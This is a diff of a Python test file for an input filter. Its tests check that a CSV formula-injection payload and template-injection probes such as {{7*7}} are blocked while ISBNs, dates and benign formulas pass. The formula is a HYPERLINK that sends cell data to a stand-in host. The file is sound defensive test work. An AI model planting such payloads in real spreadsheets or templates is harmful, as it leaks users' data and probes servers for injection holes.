@@ -986,3 +986,12 @@ def test_a_formula_in_a_csv_field_doubles_its_quotes(edge):
     ('"=HYPERLINK(""http://..""&A2)"'): the same fetch of a cell's data."""
     check_blocked(edge, ['10234,"=HYPERLINK(""http://x.example/c?d=""&A2&B2,""Verify"")",2'])
     check_passes(edge, ['id,name\n1,"Say ""hi"""', '7,"=SUM(B2:B9)",ok'])
+
+
+def test_numbers_joined_by_hyphens_are_no_arithmetic_in_a_template(edge):
+    """A wiki citation's ISBN or a date in a template's braces is three or
+    more numbers joined by "-", no probe computing; "{{7*7}}" and
+    "{{'7'*7}}" still are."""
+    check_passes(edge, ["{{cite book |isbn=978-3-12-345678-0 |page=42}}",
+                        "{{ order.date | default: 2024-03-01 }}"])
+    check_blocked(edge, ["{{7*7}}", "{{'7'*7}}", "{{ 7*7 }} {{isbn-978-3-12}}"])
